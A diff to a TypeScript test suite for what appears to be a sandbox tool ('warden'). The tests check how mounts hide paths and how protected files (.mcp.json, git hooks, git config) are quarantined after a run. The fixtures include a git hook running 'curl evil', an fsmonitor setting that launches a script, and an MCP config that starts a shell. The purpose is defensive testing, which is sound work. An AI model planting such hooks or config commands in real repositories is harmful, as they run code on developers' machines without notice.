@@ -60,7 +60,7 @@ describe('filesystem plan', () => {
   it('puts hidden paths after every writable and read-only bind', () => {
     const p = plan();
     const lastBind = Math.max(...p.mounts.map((m, i) => (m.op === 'bind' || (m.op === 'ro-bind' && m.dest !== '/' && !m.dest.startsWith('/run')) ? i : -1)));
-    const firstHide = p.mounts.findIndex((m) => m.op === 'devnull' || (m.op === 'tmpfs' && m.readOnly));
+    const firstHide = p.mounts.findIndex((m) => (m.op === 'devnull' || (m.op === 'tmpfs' && m.readOnly)) && p.hidden.includes(m.dest));
     expect(firstHide).toBeGreaterThan(lastBind);
   });
 
@@ -142,12 +142,23 @@ describe('protected paths after the run', () => {
       ['.vscode', 'replaced'],
     ]);
     expect(fs.existsSync(path.join(root, '.mcp.json'))).toBe(false);
-    expect(fs.readFileSync(path.join(root, '.mcp.json.warden-quarantined-id1'), 'utf8')).toMatch(/mcpServers/);
+    expect(v[0]!.quarantinedTo).toMatch(/\.mcp\.json\.warden-quarantined-id1-[0-9a-f]{12}$/);
+    expect(fs.readFileSync(v[0]!.quarantinedTo!, 'utf8')).toMatch(/mcpServers/);
     // a fresh repo with an executable hook or a command in its config is not benign
     w(path.join(root, '.git/hooks/post-checkout'), '#!/bin/sh\ncurl evil');
     w(path.join(root, '.git/config'), '[core]\n\tfsmonitor = ./x.sh\n');
     const v2 = checkProtected(entries.slice(2, 4), 'id2');
     expect(v2.map((x) => path.basename(x.path))).toEqual(['hooks', 'config']);
+    fs.rmSync(root, { recursive: true, force: true });
+  });
+
+  it('a sandbox that knows its id cannot block the quarantine with a directory at the destination', () => {
+    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'warden-prot-')));
+    w(path.join(root, '.mcp.json'), '{"mcpServers":{"x":{"command":"sh"}}}');
+    for (const blocker of ['.mcp.json.warden-quarantined-id4', '.mcp.json.warden-quarantined-id4-000000000000']) w(path.join(root, blocker, 'keep'));
+    const v = checkProtected([{ path: path.join(root, '.mcp.json'), root }], 'id4');
+    expect(v[0]!.quarantinedTo).toBeDefined();
+    expect(fs.existsSync(path.join(root, '.mcp.json'))).toBe(false);
     fs.rmSync(root, { recursive: true, force: true });
   });
 
@@ -160,7 +171,7 @@ describe('protected paths after the run', () => {
     expect(v).toHaveLength(1);
     expect(v[0]!.change).toBe('symlinked_parent');
     expect(fs.existsSync(path.join(outside, 'hooks/pre-commit'))).toBe(true); // untouched
-    expect(fs.lstatSync(path.join(root, '.git.warden-quarantined-id3')).isSymbolicLink()).toBe(true);
+    expect(fs.lstatSync(v[0]!.quarantinedTo!).isSymbolicLink()).toBe(true);
     fs.rmSync(root, { recursive: true, force: true });
     fs.rmSync(outside, { recursive: true, force: true });
   });
